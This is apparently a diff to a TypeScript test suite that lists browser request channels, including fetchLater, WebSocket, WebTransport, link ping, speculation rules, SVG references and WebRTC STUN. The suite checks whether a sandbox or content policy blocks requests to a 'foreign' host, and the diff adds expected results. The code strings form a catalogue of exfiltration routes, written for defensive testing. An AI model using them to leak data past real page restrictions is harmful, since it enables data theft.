@@ -17,7 +17,11 @@ const rows: Record<string, Attacks> = {
       heard: '/keepalive',
       refused: true,
     },
-    fetchLater: { code: `fetchLater(foreign + 'fetch-later', { activateAfter: 0 }); await wait(200)` },
+    fetchLater: {
+      code: `fetchLater(foreign + 'fetch-later', { activateAfter: 0 }); await wait(200)`,
+      heard: '/fetch-later',
+      refused: true,
+    },
     xhr: {
       code: `const x = new XMLHttpRequest(); x.open('GET', foreign + 'xhr'); x.send(); await wait(200)`,
       heard: '/xhr',
@@ -26,8 +30,8 @@ const rows: Record<string, Attacks> = {
     eventSource: { code: `new EventSource(foreign + 'events'); await wait(200)`, heard: '/events' },
     webSocket: { code: `new WebSocket(foreign.replace('http', 'ws') + 'socket'); await wait(200)`, heard: '/socket' },
     webTransport: {
-      code: `await new WebTransport(foreign.replace('http:', 'https:') + 'transport').ready`,
-      refused: 'alone',
+      code: `const transport = new WebTransport('https://' + quic + '/'); transport.ready.catch(() => 0); await wait(500); `,
+      heard: 'quic',
     },
     module: { code: `await import(foreign + 'module.js')`, heard: '/module.js', refused: true },
     jsonModule: {
@@ -46,7 +50,8 @@ const rows: Record<string, Attacks> = {
       heard: '/module-script.js',
     },
     ping: {
-      code: `const a = make('a', { href: '#', ping: foreign + 'ping' }); document.body.append(a); await wait(50)`,
+      code: `const a = make('a', { href: foreign + 'pinged', target: '_blank', ping: foreign + 'ping' }); document.body.append(a); a.click(); await wait(100)`,
+      heard: '/ping',
     },
   },
   'images, styles, fonts, media, objects, prefetches, `<base>`: the fetch directives': {
@@ -74,14 +79,15 @@ const rows: Record<string, Attacks> = {
     preload: { code: link('preload', 'preload.png', `as: 'image'`), heard: '/preload.png' },
     modulePreload: { code: link('modulepreload', 'preload.js'), heard: '/preload.js' },
     prefetch: { code: link('prefetch', 'prefetch'), heard: '/prefetch' },
-    icon: { code: link('icon', 'icon.png') },
-    manifest: { code: link('manifest', 'manifest.json') },
+    icon: { code: link('icon', 'icon.png'), heard: '/icon.png', page: true },
+    manifest: { code: link('manifest', 'manifest.json'), heard: '/manifest.json', page: true },
     svgImage: {
       code: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + foreign + 'svg.png"/></svg>'); await wait(200)`,
       heard: '/svg.png',
     },
     svgUse: {
       code: `document.body.insertAdjacentHTML('beforeend', '<svg><use href="' + foreign + 'use.svg#x"/></svg>'); await wait(100)`,
+      heard: '/use.svg',
     },
     base: {
       code: `document.head.append(make('base', { href: foreign })); await load(make('img', { src: 'based.png' }))`,
@@ -93,6 +99,8 @@ const rows: Record<string, Attacks> = {
     },
     speculation: {
       code: `document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [foreign + 'speculated'] }] }) })); await wait(100)`,
+      heard: '/speculated',
+      page: true,
     },
   },
   'CSS exfiltration: no foreign address in any style': {
@@ -124,7 +132,7 @@ const rows: Record<string, Attacks> = {
     peer: { code: `return new RTCPeerConnection()`, refused: true },
     stun: {
       code: `const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await wait(600)`,
-      heard: 'udp',
+      heard: 'stun',
       refused: true,
     },
     elsewhere: {
